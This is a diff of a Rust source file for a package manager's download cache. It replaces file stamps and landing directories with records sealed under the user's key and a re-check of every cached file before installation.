@@ -1,106 +1,59 @@
 //! The download cache: packages by the BLAKE3 digest of their archive.
 //!
-//! - `unpacked/<digest>/`: the package as unpacked (`tree/`) and what was
-//!   verified of it (`files.json`: every file's digest, size and mode, every
-//!   directory, and where the package root is). It is made by linking the
-//!   files of a verified unpack into the cache (a reflink where the
-//!   filesystem has them, else a hard link), so keeping it writes no file
-//!   data, and a reinstall links it back into a staging directory instead
-//!   of hashing, inflating and writing the archive again. Each file is
-//!   checked against `files.json` after it is linked or copied into staging
-//!   and before anything is installed: a hard link shares its file with the
-//!   installed copies, so a file edited in place anywhere is caught there,
-//!   and the entry is thrown away and the archive downloaded again. A file
-//!   read back once and found right is stamped (`stamps`, MACed with the
-//!   user's receipt key): while its inode, size, modification time and mode
-//!   stay as stamped, the next reinstall does not read it again.
+//! - `unpacked/<digest>/`: a package as unpacked from an archive whose
+//!   digest matched the registry's record (`tree/`), and its record
+//!   (`files.json`): every file's digest, size and mode, every directory,
+//!   and where the package root is. There is one way in: the archive is
+//!   downloaded, verified and unpacked into a new directory of `tmp/`, its
+//!   record written, and the directory renamed to `unpacked/<digest>/`
+//!   ([`Cache::put`]). There is one way out: each file is linked (a
+//!   reflink where the filesystem has them, else a hard link, else a copy)
+//!   into a staging directory and read back there, and its digest, size
+//!   and mode compared with the record, before anything is installed
+//!   ([`Cache::unpacked_into`]). A file edited anywhere (a hard link shares
+//!   it with the installed copies) is caught there, and the entry is thrown
+//!   away and the archive downloaded again.
 //!
-//!   What this trusts: an archive is checked against the digest the
-//!   registry recorded, which nobody can forge; an unpacked entry is checked
-//!   against its own record, which orla wrote when the archive was verified
-//!   and which whoever can write the cache directory could rewrite together
-//!   with the files. So the cache directory must be as private as the
-//!   install root (by default both are the user's own); an entry swapped
-//!   for another package is still refused when the package's name, version
-//!   or permissions differ from the registry's record (install checks them).
-//! - `archives/<digest>.tar.gz`: the archive itself, kept only when the
-//!   cache is on another filesystem than the install root (no links
-//!   between them), and read when an older orla left it.
-//! - `tmp/`: downloads and entries in flight, renamed into place only once
-//!   the package was verified (and, for an install under the root's lock,
-//!   installed). `landing-*` directories hold a download being unpacked
-//!   before the root is locked; where the root is on this filesystem, the
-//!   unpack's flushing threads link each file into a new entry as they
-//!   flush it, and the landing directory is kept until the install renames
-//!   it into staging (`Cache::land`), so nothing is linked under the lock.
+//!   The record is sealed (`verify::seal`) under the user's receipt key,
+//!   for the entry's place: only this user's orla, which verified the
+//!   archive against the registry's digest, can write a record the cache
+//!   believes. Whoever else can write a shared cache directory can replace
+//!   files and records, but not make orla install them under the
+//!   registry's digest: the entry is refused and downloaded again.
+//! - `tmp/`: entries in flight, renamed into place only once verified.
 
-use std::collections::{BTreeMap, HashMap, HashSet};
+use std::collections::{BTreeMap, HashSet};
 use std::fs;
 use std::io::{self, Read};
 use std::path::{Path, PathBuf};
-use std::sync::atomic::{AtomicUsize, Ordering};
-use std::sync::Mutex;
 
 use serde::{Deserialize, Serialize};
 
-mod stamps;
-
 pub use crate::size::{human_size, parse_size};
 use crate::unpack::{safe_path, FileRecord, Unpacked};
+use crate::verify::seal::Seal;
 use crate::verify::Digest;
 
-/// How long a download's temporary file may go unwritten before it counts
-/// as left behind by a killed process.
+/// How long an entry in `tmp/` may go unwritten before it counts as left
+/// behind by a killed process.
 const STALE_DOWNLOAD: std::time::Duration = std::time::Duration::from_secs(3600);
+
+/// How an entry's record is sealed.
+const RECORD: Seal = Seal {
+    header: "orla-cache-entry 1 ",
+    purpose: b"orla download cache entry\0",
+};
+
+/// The most threads a package is linked out of the cache and checked with.
+const CHECK_THREADS: usize = 8;
 
 #[derive(Debug, Clone)]
 pub struct Cache {
     pub dir: PathBuf,
-    /// The user's secret key (the receipt key), read when first needed:
-    /// the stamps of unpacked entries are MACed with it (see `stamps`).
+    /// The user's receipt key (`root::binding`), read (or made) when first
+    /// needed: it seals every entry's record. Without one, nothing is
+    /// cached.
     key: std::sync::Arc<KeyFile>,
-    /// The stamps of the entries this process put in place, taken as it
-    /// put them there, shared by every clone of this `Cache`. A package
-    /// downloaded before the root's lock (`install::prefetch`) was verified
-    /// by its unpack moments before it is linked back into staging: its
-    /// files are trusted while their stamps are unchanged, as the files of
-    /// a package unpacked straight into staging are, instead of being read
-    /// back a second time in the same command. Not written anywhere: a
-    /// later command trusts only the MACed stamps of settled files.
-    made: std::sync::Arc<Mutex<HashMap<Digest, Vec<Option<stamps::Stamp>>>>>,
-    /// Packages this process downloaded and verified before the root's
-    /// lock, still in their landing directories, whose files the cache
-    /// entry of the same digest has its own names for (`landed`). Under
-    /// the lock, such a tree is renamed into place from where it landed
-    /// (`take_landed`) instead of being linked back from the entry one
-    /// file at a time.
-    landed: std::sync::Arc<Mutex<HashMap<Digest, Landed>>>,
-}
-
-/// A verified unpack in a landing directory, kept for this process's
-/// install (`Cache::landed`).
-#[derive(Debug)]
-struct Landed {
-    dir: Landing,
-    unpacked: Unpacked,
-}
-
-/// A landed package's directory in the cache's `tmp/` (its root, or the
-/// landing directory that holds its root), removed with what it holds
-/// when dropped: once the package was renamed into place, there is
-/// nothing left to remove, or an empty directory.
-#[derive(Debug)]
-pub struct Landing(PathBuf);
-
-impl Drop for Landing {
-    fn drop(&mut self) {
-        match fs::remove_dir(&self.0) {
-            Err(e) if e.kind() != io::ErrorKind::NotFound => {
-                let _ = fs::remove_dir_all(&self.0);
-            }
-            _ => {}
-        }
-    }
 }
 
 impl Cache {
@@ -108,18 +61,14 @@ impl Cache {
         Cache {
             dir: dir.to_path_buf(),
             key: Default::default(),
-            made: Default::default(),
-            landed: Default::default(),
         }
     }
 
-    /// The cache, with the user's secret key at `path` (the receipt key,
-    /// `root::binding`): without one, no entry's stamps are trusted and a
-    /// reinstall reads every file back.
+    /// The cache, with the user's receipt key at `path`.
     pub fn with_key_file(mut self, path: PathBuf) -> Cache {
         self.key = std::sync::Arc::new(KeyFile {
             path: Some(path),
-            key: std::sync::OnceLock::new(),
+            ..KeyFile::default()
         });
         self
     }
@@ -132,86 +81,24 @@ impl Cache {
         self.unpacked().join(digest.to_string())
     }
 
-    /// Whether unpacked packages in `staging` can be linked into the cache
-    /// (and back): the same filesystem. Creates the cache directory.
-    pub fn can_link(&self, staging: &Path) -> bool {
-        #[cfg(unix)]
-        {
-            use std::os::unix::fs::MetadataExt;
-            let tmp = self.dir.join("tmp");
-            if fs::create_dir_all(&tmp).is_err() {
-                return false;
-            }
-            match (fs::metadata(&tmp), fs::metadata(staging)) {
-                (Ok(a), Ok(b)) => a.dev() == b.dev(),
-                _ => false,
-            }
-        }
-        #[cfg(not(unix))]
-        {
-            let _ = staging;
-            false
-        }
+    /// Whether the package whose archive has this digest is cached.
+    pub fn has(&self, digest: &Digest) -> bool {
+        self.unpacked_path(digest).join(FILES).is_file()
     }
 
-    /// Links a verified unpack at `dest` into a new cache entry in `tmp/`,
-    /// to be moved into place by `keep`. Writes no file data.
-    pub fn link_unpacked(&self, dest: &Path, unpacked: &Unpacked) -> io::Result<tempfile::TempDir> {
-        let entry = self.new_entry()?;
-        let tree = entry.path().join(TREE);
-        let root = root_under(dest, unpacked)?;
-        let mut dirs = Vec::new();
-        list_dirs(dest, Path::new(""), &mut dirs)?;
-        fs::create_dir(&tree)?;
-        for dir in &dirs {
-            fs::create_dir(tree.join(dir))?;
-        }
-        let mut how = Link::Reflink;
-        for rel in unpacked.files.keys() {
-            how = link(&unpacked.root.join(rel), &tree.join(root).join(rel), how)?;
-        }
-        let dirs = dirs.iter().map(|d| slashed(d)).collect::<io::Result<_>>()?;
-        write_record(entry.path(), dest, unpacked, dirs)?;
-        Ok(entry)
+    /// Whether the package's entry is there without its record (what a
+    /// power cut may leave): it is replaced by the next download.
+    pub fn has_without_record(&self, digest: &Digest) -> bool {
+        let path = self.unpacked_path(digest);
+        path.exists() && !path.join(FILES).is_file()
     }
 
-    /// A new, empty entry directory in `tmp/`.
-    fn new_entry(&self) -> io::Result<tempfile::TempDir> {
-        self.in_tmp(|tmp| tempfile::Builder::new().prefix("unpacked-").tempdir_in(tmp))
-    }
-
-    /// What `make` makes in the cache's `tmp/` (`crate::fs::made_in`).
-    fn in_tmp<T>(&self, make: impl Fn(&Path) -> io::Result<T>) -> io::Result<T> {
-        crate::fs::made_in(&self.dir.join("tmp"), make)
-    }
-
-    /// Whether `dir` is one of this cache's landing directories
-    /// (`landing_dir`), whose unpack nobody but the cache will use.
-    pub fn is_landing(&self, dir: &Path) -> bool {
-        let named = dir.file_name().and_then(|n| n.to_str());
-        dir.parent() == Some(self.dir.join("tmp").as_path())
-            && named.is_some_and(|n| n.starts_with("landing-"))
-    }
-
-    /// As `link_unpacked`, for an unpack at `dest` that nobody else will
-    /// use (a landing directory): the whole directory is renamed into the
-    /// new entry, so nothing is linked one file at a time and nothing is
-    /// left in `dest` to delete. Its files are the ones the unpack flushed,
-    /// so the entry can be put in place with `keep_flushed`.
-    pub fn move_unpacked(&self, dest: &Path, unpacked: &Unpacked) -> io::Result<tempfile::TempDir> {
-        let entry = self.new_entry()?;
-        let mut dirs = Vec::new();
-        list_dirs(dest, Path::new(""), &mut dirs)?;
-        let dirs = dirs.iter().map(|d| slashed(d)).collect::<io::Result<_>>()?;
-        write_record(entry.path(), dest, unpacked, dirs)?;
-        fs::rename(dest, entry.path().join(TREE))?;
-        Ok(entry)
-    }
-
-    /// An empty new entry in `tmp/` (its `tree/` made) for an unpack to
-    /// link its files into as it flushes them (`crate::fs::Links`).
+    /// A new, empty entry in `tmp/`, its tree made: unpack a download into
+    /// [`Cache::entry_tree`] of it, then [`Cache::put`] it in place.
     pub fn entry_dir(&self) -> io::Result<tempfile::TempDir> {
-        let entry = self.new_entry()?;
+        let entry = crate::fs::made_in(&self.dir.join("tmp"), |tmp| {
+            tempfile::Builder::new().prefix("unpacked-").tempdir_in(tmp)
+        })?;
         fs::create_dir(entry.path().join(TREE))?;
         Ok(entry)
     }
@@ -221,128 +108,61 @@ impl Cache {
         entry.join(TREE)
     }
 
-    /// Records in `entry` (from `entry_dir`, whose tree `links` made while
-    /// the landing directory `dest` was unpacked) what was verified, to be
-    /// put in place with `keep_linked`. The landing directory keeps its
-    /// files: this process installs them from there (`landed`).
-    /// `dirs` are those `links` made (`Links::dirs`).
-    pub fn record_linked(
-        &self,
-        entry: &tempfile::TempDir,
-        dirs: Vec<String>,
-        dest: &Path,
-        unpacked: &Unpacked,
-    ) -> io::Result<()> {
-        write_record(entry.path(), dest, unpacked, dirs)
-    }
-
-    /// As `keep`, for entries made by `record_linked`: their files are the
-    /// unpacks', flushed as they were written, so nothing is flushed here
-    /// (a record is not read back either: a large package's is thousands
-    /// of files). An entry already in place (another orla's) is kept. No
-    /// stamps are taken: this process installs the landing directories'
-    /// trees, not the entries'.
-    pub fn keep_linked(&self, entries: Vec<(tempfile::TempDir, Digest)>) -> io::Result<()> {
-        fs::create_dir_all(self.unpacked())?;
-        let mut renamed = Ok(());
-        for (entry, digest) in entries {
-            let path = self.unpacked_path(&digest);
-            if !path.exists() {
-                renamed = renamed.and(fs::rename(entry.keep(), &path));
-            }
-        }
-        renamed
-    }
-
-    /// Keeps the verified unpack in the landing directory `dir` for this
-    /// process: `take_landed` hands it to the install. An unpack whose
-    /// root is a directory inside `dir` (the archive's wrapper) is moved
-    /// out beside it and `dir` removed, here, before the root is locked:
-    /// removing a directory frees its block, which waits for the disk
-    /// where blocks are discarded as they are freed, and the root renamed
-    /// into place leaves nothing behind.
-    pub fn land(&self, digest: &Digest, dir: tempfile::TempDir, mut unpacked: Unpacked) {
-        let mut moved = dir.path().as_os_str().to_owned();
-        moved.push(".root");
-        let moved = PathBuf::from(moved);
-        let dir = if unpacked.root != dir.path() && fs::rename(&unpacked.root, &moved).is_ok() {
-            unpacked.root = moved.clone();
-            let _ = dir.close();
-            Landing(moved)
-        } else {
-            Landing(dir.keep())
-        };
-        let landed = Landed { dir, unpacked };
-        self.landed
-            .lock()
-            .expect("landed lock")
-            .insert(*digest, landed);
-    }
-
-    /// Takes the landed unpack of `digest`, if any, with the directory
-    /// that holds it: the caller installs it from there, on the cache's
-    /// filesystem.
-    pub fn take_landed(&self, digest: &Digest) -> Option<(Landing, Unpacked)> {
-        let landed = self.landed.lock().expect("landed lock").remove(digest)?;
-        Some((landed.dir, landed.unpacked))
-    }
-
-    /// Removes the landed unpacks no install took.
-    pub fn drop_landed(&self) {
-        self.landed.lock().expect("landed lock").clear();
-    }
-
-    /// As `keep`, for an entry made by `move_unpacked` from an unpack whose
-    /// files were all flushed as they were written: nothing is flushed.
-    pub fn keep_flushed(&self, entry: tempfile::TempDir, digest: &Digest) -> io::Result<()> {
-        self.put_in_place(entry, digest, true)
-    }
-
-    /// Moves an entry made by `link_unpacked` into place; an entry already
-    /// there (another orla's) is kept.
+    /// Puts the entry `entry` (from `entry_dir`), whose tree holds the
+    /// verified unpack `unpacked` of the archive `digest`, in place with
+    /// its sealed record; an entry already there (another orla's) is kept.
     ///
-    /// The data of the entry's files is flushed to disk first, and the
-    /// rename after: a package hard-linked from an entry in `unpacked/`
-    /// needs no flush of those files' data when it is installed. One
-    /// installed under the lock has its files flushed by the install, and
-    /// the flush here then finds nothing left to write. The entry's record
-    /// and directories, and its name in `unpacked/`, are not flushed: an
-    /// entry a power cut took away is fetched again, and one it left
-    /// without a file or with a torn record is found damaged when it is
-    /// used, removed, and fetched again (docs/cache.md).
-    pub fn keep(&self, entry: tempfile::TempDir, digest: &Digest) -> io::Result<()> {
-        self.put_in_place(entry, digest, false)
-    }
-
-    fn put_in_place(
+    /// Nothing is flushed: an entry a power cut took away or left torn is
+    /// found damaged when it is used (its files are read back), removed,
+    /// and fetched again; the files installed from it are flushed by the
+    /// install.
+    pub fn put(
         &self,
         entry: tempfile::TempDir,
         digest: &Digest,
-        tree_flushed: bool,
+        unpacked: &Unpacked,
     ) -> io::Result<()> {
-        fs::create_dir_all(self.unpacked())?;
+        let key = self.key.get_or_create()?;
         let path = self.unpacked_path(digest);
-        if path.exists() {
+        if path.join(FILES).is_file() {
             return Ok(());
         }
-        if !tree_flushed {
-            let (mut files, mut dirs) = (Vec::new(), Vec::new());
-            crate::fs::walk(&entry.path().join(TREE), &mut files, &mut dirs)?;
-            crate::fs::sync_files(&files)?;
+        let tree = entry.path().join(TREE);
+        let mut dirs = Vec::new();
+        list_dirs(&tree, Path::new(""), &mut dirs)?;
+        let record = Entry {
+            root: slashed(
+                unpacked
+                    .root
+                    .strip_prefix(&tree)
+                    .map_err(|_| io::Error::other("the package root is outside its entry"))?,
+            )?,
+            dirs: dirs.iter().map(|d| slashed(d)).collect::<io::Result<_>>()?,
+            files: unpacked.files.clone(),
+        };
+        let body = serde_json::to_vec(&record).map_err(io::Error::other)?;
+        let head = RECORD.head(&key, &path, &body);
+        fs::write(entry.path().join(FILES), [head.as_bytes(), &body].concat())?;
+        fs::create_dir_all(self.unpacked())?;
+        // A damaged entry of the same digest (no record) is replaced.
+        let _ = fs::remove_dir_all(&path);
+        match fs::rename(entry.path(), &path) {
+            Ok(()) => {
+                let _ = entry.keep();
+                Ok(())
+            }
+            // Another orla put the same package in place meanwhile.
+            Err(_) if path.join(FILES).is_file() => Ok(()),
+            Err(e) => Err(e),
         }
-        let made = made_stamps(entry.path());
-        fs::rename(entry.keep(), &path)?;
-        if let Some(made) = made {
-            self.made.lock().expect("made lock").insert(*digest, made);
-        }
-        Ok(())
     }
 
-    /// Links the cached unpack of `digest`, if any, into the empty directory
-    /// `dest` and checks every file against what was recorded when it was
-    /// verified. `Ok(None)`: nothing cached. `Err`: the entry is damaged
-    /// (it is removed) or could not be linked; `dest` may hold a part of it.
-    pub fn unpacked_into(&self, digest: &Digest, dest: &Path) -> Result<Option<Linked>, Damaged> {
+    /// Links the cached package of `digest`, if any, into the empty
+    /// directory `dest` and checks every file against its record.
+    /// `Ok(None)`: nothing cached. `Err`: the entry is damaged or not this
+    /// user's (it is removed) or could not be linked; `dest` may hold a
+    /// part of it.
+    pub fn unpacked_into(&self, digest: &Digest, dest: &Path) -> Result<Option<Unpacked>, Damaged> {
         let path = self.unpacked_path(digest);
         let bytes = match fs::read(path.join(FILES)) {
             Ok(b) => b,
@@ -350,16 +170,22 @@ impl Cache {
                 if !path.exists() {
                     return Ok(None);
                 }
-                // An entry is renamed into place with its record: one
-                // without is what a power cut left of one (records are not
-                // flushed).
                 let _ = fs::remove_dir_all(&path);
                 return Err(Damaged::Content("its record is missing".into()));
             }
             Err(e) => return Err(Damaged::Io(e)),
         };
-        let made = self.made.lock().expect("made lock").remove(digest);
-        let result = link_back(&path, &bytes, dest, self.key.get(), made);
+        let result = match self.key.get() {
+            Some(key) => match RECORD.open(key, &path, &bytes) {
+                Some(body) => link_back(&path, body, dest),
+                None => Err(Damaged::Content(
+                    "its record was not written by this user's orla".into(),
+                )),
+            },
+            None => Err(Damaged::Content(
+                "there is no receipt key to check it".into(),
+            )),
+        };
         match &result {
             Err(Damaged::Content(_)) => {
                 let _ = fs::remove_dir_all(&path);
@@ -376,44 +202,9 @@ impl Cache {
         let _ = fs::remove_dir_all(self.unpacked_path(digest));
     }
 
-    fn archives(&self) -> PathBuf {
-        self.dir.join("archives")
-    }
-
-    pub fn archive_path(&self, digest: &Digest) -> PathBuf {
-        self.archives().join(format!("{digest}.tar.gz"))
-    }
-
-    /// The cached copy of the package whose archive has this digest, if
-    /// any: its unpacked entry, else the archive.
-    pub fn archive(&self, digest: &Digest) -> Option<PathBuf> {
-        let unpacked = self.unpacked_path(digest);
-        if unpacked.join(FILES).is_file() {
-            return Some(unpacked);
-        }
-        let path = self.archive_path(digest);
-        path.is_file().then_some(path)
-    }
-
-    /// A temporary file beside the cached archives, for a download in flight.
-    pub fn temp_file(&self) -> io::Result<tempfile::NamedTempFile> {
-        self.in_tmp(|tmp| {
-            tempfile::Builder::new()
-                .prefix("download-")
-                .tempfile_in(tmp)
-        })
-    }
-
-    /// An empty directory in `tmp/` to unpack a download into before the
-    /// install root is locked; the verified unpack is linked into the cache
-    /// from there (`link_unpacked`) and the directory is then removed.
-    pub fn landing_dir(&self) -> io::Result<tempfile::TempDir> {
-        self.in_tmp(|tmp| tempfile::Builder::new().prefix("landing-").tempdir_in(tmp))
-    }
-
-    /// Removes what killed processes left of their downloads and unpacked
-    /// entries (not written to for an hour: one in flight keeps it fresh),
-    /// then the directory of downloads in flight once it is empty.
+    /// Removes what killed processes left of their entries in flight (not
+    /// written to for an hour: one in flight keeps it fresh), then `tmp/`
+    /// once it is empty.
     pub fn tidy(&self) {
         let dir = self.dir.join("tmp");
         let stale = std::time::SystemTime::now() - STALE_DOWNLOAD;
@@ -423,45 +214,19 @@ impl Cache {
                     .metadata()
                     .and_then(|m| m.modified())
                     .is_ok_and(|t| t < stale);
-                let name = entry.file_name().to_string_lossy().into_owned();
-                if old && name.starts_with("download-") {
-                    let _ = fs::remove_file(entry.path());
-                } else if old && (name.starts_with("unpacked-") || name.starts_with("landing-")) {
+                if old {
                     let _ = fs::remove_dir_all(entry.path());
+                    let _ = fs::remove_file(entry.path());
                 }
             }
         }
         let _ = fs::remove_dir(dir);
-    }
-
-    /// Moves a verified download into the cache.
-    ///
-    /// Deliberately not flushed to disk first: a cached archive is verified
-    /// again on every use, so a copy torn by a power cut is caught, thrown
-    /// away and downloaded again. The flush cost about 15% of a 24 MiB
-    /// install (docs/benchmarks.md); the installed files are still flushed.
-    pub fn store(&self, tmp: tempfile::NamedTempFile, digest: &Digest) -> io::Result<PathBuf> {
-        let dest = self.archive_path(digest);
-        fs::create_dir_all(self.archives())?;
-        tmp.persist(&dest).map_err(|e| e.error)?;
-        Ok(dest)
     }
 }
 
 /// The tree of an unpacked entry, and its record.
 const TREE: &str = "tree";
 const FILES: &str = "files.json";
-
-/// A cached unpack linked into a staging directory.
-pub struct Linked {
-    pub unpacked: Unpacked,
-    /// The files of `unpacked` that are hard links into a flushed entry:
-    /// their data is on disk already (see `Cache::keep`).
-    pub durable: crate::fs::Durable,
-    /// How many files were read back and hashed (the others were vouched
-    /// for by their stamps).
-    pub hashed: usize,
-}
 
 /// Records that an entry was used now (its last use is its record's
 /// modification time), for `prune` and the size limit. Best effort.
@@ -471,14 +236,9 @@ pub(super) fn touch(path: &Path) {
     }
 }
 
-/// What a cached unpack holds (`files.json`).
+/// What a cached unpack holds (`files.json`, after its seal).
 #[derive(Serialize, Deserialize)]
 struct Entry {
-    /// Whether the entry was flushed before it was put in place (every
-    /// entry this orla writes). An older orla's entry was not: the files
-    /// linked from it are flushed again when installed.
-    #[serde(default)]
-    durable: bool,
     /// The package root inside the tree (`""`: the tree itself).
     root: String,
     /// Every directory of the tree, parents first.
@@ -490,7 +250,8 @@ struct Entry {
 /// Why a cached unpack was not used.
 #[derive(Debug)]
 pub enum Damaged {
-    /// A file differs from what was verified, or the record is unreadable.
+    /// A file differs from what was verified, or the record is unreadable
+    /// or not this user's.
     Content(String),
     /// Linking or copying failed (a full disk, permissions).
     Io(io::Error),
@@ -505,44 +266,12 @@ impl std::fmt::Display for Damaged {
     }
 }
 
-/// The stamps of the files of the entry at `entry`, in its record's order
-/// (see `Cache::made`); None if one cannot be read.
-fn made_stamps(entry: &Path) -> Option<Vec<Option<stamps::Stamp>>> {
-    let record: Entry = serde_json::from_slice(&fs::read(entry.join(FILES)).ok()?).ok()?;
-    let root = entry.join(TREE).join(&record.root);
-    record
-        .files
-        .keys()
-        .map(|rel| {
-            Some(stamps::Stamp::of(
-                &fs::symlink_metadata(root.join(rel)).ok()?,
-            ))
-        })
-        .collect()
-}
-
-/// `made`: the stamps this process took of the entry's files as it put the
-/// entry in place (`Cache::made`), trusted as the MACed ones are.
-fn link_back(
-    entry: &Path,
-    record_bytes: &[u8],
-    dest: &Path,
-    key: Option<&[u8; 32]>,
-    made: Option<Vec<Option<stamps::Stamp>>>,
-) -> Result<Linked, Damaged> {
+/// Links every file the record `body` of the entry at `entry` names into
+/// `dest`, and checks each one there.
+fn link_back(entry: &Path, body: &[u8], dest: &Path) -> Result<Unpacked, Damaged> {
     let damaged = |m: String| Damaged::Content(m);
-    // Taken before any file is looked at: a stamp is kept only for a file
-    // last written well before it (`stamps::settled`).
-    let now = crate::fs::now_ns();
     let record: Entry =
-        serde_json::from_slice(record_bytes).map_err(|e| damaged(format!("{FILES}: {e}")))?;
-    let made = made.filter(|s| s.len() == record.files.len());
-    // Only the MACed stamps of settled files are kept on disk: those taken
-    // in this process are not merged into what is written back below.
-    let from_made = made.is_some();
-    let old_stamps = made
-        .or_else(|| key.and_then(|k| stamps::read(k, entry, record_bytes)))
-        .filter(|s| s.len() == record.files.len());
+        serde_json::from_slice(body).map_err(|e| damaged(format!("{FILES}: {e}")))?;
     // The record names paths as an archive would: checked the same way, so
     // a damaged record cannot reach outside the staging directory.
     let checked = |p: &str| match safe_path(p.as_bytes()) {
@@ -553,131 +282,77 @@ fn link_back(
     for dir in &record.dirs {
         fs::create_dir_all(dest.join(checked(dir)?)).map_err(Damaged::Io)?;
     }
-    let tree = entry.join(TREE);
-    let files: Vec<(usize, &String, &FileRecord, PathBuf)> = record
+    let files: Vec<(&String, &FileRecord, PathBuf)> = record
         .files
         .iter()
-        .enumerate()
-        .map(|(i, (rel, want))| Ok((i, rel, want, checked(rel)?)))
+        .map(|(rel, want)| Ok((rel, want, checked(rel)?)))
         .collect::<Result<_, Damaged>>()?;
-    // The files by directory (by the text of their paths: comparing and
-    // hashing `Path`s goes component by component).
-    let total = files.len();
-    let mut by_dir: HashMap<&str, Vec<Item>> = HashMap::new();
-    for item in files {
-        let dir = item.1.rsplit_once('/').map_or("", |(dir, _)| dir);
-        by_dir.entry(dir).or_default().push(item);
-    }
-    let mut groups: Vec<(PathBuf, Vec<Item>)> = by_dir
-        .into_iter()
-        .map(|(dir, items)| (PathBuf::from(dir), items))
-        .collect();
-    groups.sort_by(|a, b| a.0.cmp(&b.0));
-    // Every file's directory the record does not list (an older record
-    // lists none), made once here rather than asked for per file.
-    let listed: HashSet<&Path> = record.dirs.iter().map(Path::new).collect();
-    for (dir, _) in &groups {
-        let dir = root.join(dir);
-        if !listed.contains(dir.as_path()) {
-            fs::create_dir_all(dest.join(dir)).map_err(Damaged::Io)?;
+    let tree = entry.join(TREE).join(&root);
+    let to_root = dest.join(&root);
+    for (_, _, rel) in &files {
+        if let Some(parent) = rel.parent().filter(|p| !p.as_os_str().is_empty()) {
+            fs::create_dir_all(to_root.join(parent)).map_err(Damaged::Io)?;
         }
     }
-    // Linking (and hashing) run on every core, a directory at a time (two
-    // threads linking into one directory wait for each other's lock).
-    let durable = Mutex::new(crate::fs::Durable::default());
-    // The files read back, and their stamps as checked (None: not settled).
-    let fresh: Mutex<Vec<(usize, Option<stamps::Stamp>)>> = Mutex::new(Vec::new());
-    type Item<'a> = (usize, &'a String, &'a FileRecord, PathBuf);
-    let link_one = |how: Link, (i, rel, want, rel_path): &Item, dirs: Option<&Dirs>| {
-        let from = tree.join(&root).join(rel_path);
-        let to = dest.join(&root).join(rel_path);
-        let name = rel_path.file_name().unwrap_or_default();
-        let Some(before) = look(dirs, name, &from) else {
-            return Err(damaged(format!("{rel} is missing or not a file")));
-        };
-        // Unchanged since it was hashed: no need to read it again.
-        let vouched = match (&old_stamps, &before) {
-            (Some(old), Some(now)) => old[*i].is_some_and(|s| s.vouches_for(now, want)),
-            _ => false,
-        };
-        let how = link_in(dirs, name, &from, &to, how).map_err(Damaged::Io)?;
-        if !vouched {
-            // What is checked is what was put in staging: a regular file
-            // (not a link swapped in after the look above), with the
-            // recorded bytes.
-            let Some((got, size, executable, meta)) = check_file(&to).map_err(Damaged::Io)? else {
-                return Err(damaged(format!("{rel} is not a regular file")));
-            };
-            if got != want.blake3 || size != want.size || executable != want.executable {
-                return Err(damaged(format!("{rel} changed since it was verified")));
+    crate::parallel::try_for_each(&files, CHECK_THREADS, |(rel, want, rel_path)| {
+        let to = to_root.join(rel_path);
+        link(&tree.join(rel_path), &to).map_err(|e| match e.kind() {
+            io::ErrorKind::NotFound => damaged(format!("{rel} is missing")),
+            _ => Damaged::Io(e),
+        })?;
+        // What is checked is what was put in staging: a regular file (not
+        // a link swapped in meanwhile), with the recorded bytes and mode.
+        match check_file(&to).map_err(Damaged::Io)? {
+            None => Err(damaged(format!("{rel} is not a regular file"))),
+            Some((got, size, executable))
+                if got != want.blake3 || size != want.size || executable != want.executable =>
+            {
+                Err(damaged(format!("{rel} changed since it was verified")))
             }
-            // The file hashed: for a hard link the cache's own file, as
-            // installing leaves it (one more link); a copy or clone is
-            // another file, so the cache's is stamped as it was before.
-            let stamp = if how == Link::Hard {
-                stamps::Stamp::of(&meta)
-            } else {
-                before
-            };
-            let stamp = stamp.filter(|s| s.settled(now));
-            fresh.lock().expect("stamps lock").push((*i, stamp));
+            Some(_) => Ok(()),
         }
-        if how == Link::Hard && record.durable {
-            durable.lock().expect("durable lock").insert(to);
-        }
-        Ok(how)
-    };
-    let link_group = |mut how: Link, (parent, items): &(PathBuf, Vec<Item>)| {
-        let dirs = Dirs::open(
-            &tree.join(&root).join(parent),
-            &dest.join(&root).join(parent),
-        );
-        for item in items {
-            how = link_one(how, item, dirs.as_ref())?;
-        }
-        Ok(how)
-    };
-    in_parallel(&groups, total, link_group)?;
-    let durable = durable.into_inner().expect("durable lock");
-    let fresh = fresh.into_inner().expect("stamps lock");
-    let hashed = fresh.len();
-    if let (Some(key), false) = (key, fresh.is_empty()) {
-        let mut all = old_stamps
-            .filter(|_| !from_made)
-            .unwrap_or_else(|| vec![None; record.files.len()]);
-        for (i, stamp) in fresh {
-            all[i] = stamp;
-        }
-        // Best effort: without them the next reinstall reads every file.
-        if all.iter().any(Option::is_some) {
-            let _ = stamps::write(key, entry, record_bytes, &all);
-        }
-    }
-    Ok(Linked {
-        unpacked: Unpacked {
-            root: dest.join(root),
-            files: record.files,
-        },
-        durable,
-        hashed,
+    })?;
+    Ok(Unpacked {
+        root: to_root,
+        files: record.files,
     })
 }
 
-/// The user's secret key, read from its file once.
+/// The user's receipt key, read from its file once it is there.
 #[derive(Default)]
 struct KeyFile {
     path: Option<PathBuf>,
-    key: std::sync::OnceLock<Option<[u8; 32]>>,
+    key: std::sync::OnceLock<[u8; 32]>,
+    /// Held while the key is made: the threads of one install must not
+    /// make it at once.
+    making: std::sync::Mutex<()>,
 }
 
 impl KeyFile {
     fn get(&self) -> Option<&[u8; 32]> {
-        self.key
-            .get_or_init(|| {
-                let bytes = fs::read(self.path.as_ref()?).ok()?;
-                bytes.try_into().ok()
-            })
+        if let Some(key) = self.key.get() {
+            return Some(key);
+        }
+        let key: [u8; 32] = fs::read(self.path.as_ref()?).ok()?.try_into().ok()?;
+        Some(self.key.get_or_init(|| key))
+    }
+
+    /// The key, made when there is none yet (as the first install makes
+    /// it).
+    fn get_or_create(&self) -> io::Result<[u8; 32]> {
+        if let Some(key) = self.get() {
+            return Ok(*key);
+        }
+        let path = self
+            .path
             .as_ref()
+            .ok_or_else(|| io::Error::other("no receipt key"))?;
+        let _making = self.making.lock().unwrap_or_else(|e| e.into_inner());
+        if let Some(key) = self.get() {
+            return Ok(*key);
+        }
+        let key = crate::root::binding::key_or_create(path)?;
+        Ok(*self.key.get_or_init(|| key))
     }
 }
 
@@ -688,86 +363,7 @@ impl std::fmt::Debug for KeyFile {
     }
 }
 
-/// Runs `action` on every item from one thread per core (at most
-/// `CHECK_THREADS`), each taking the next item not yet taken and passing
-/// on how its last file was linked; stops at the first error and returns
-/// it.
-fn in_parallel<T: Sync>(
-    items: &[T],
-    files: usize,
-    action: impl Fn(Link, &T) -> Result<Link, Damaged> + Sync,
-) -> Result<(), Damaged> {
-    let next = AtomicUsize::new(0);
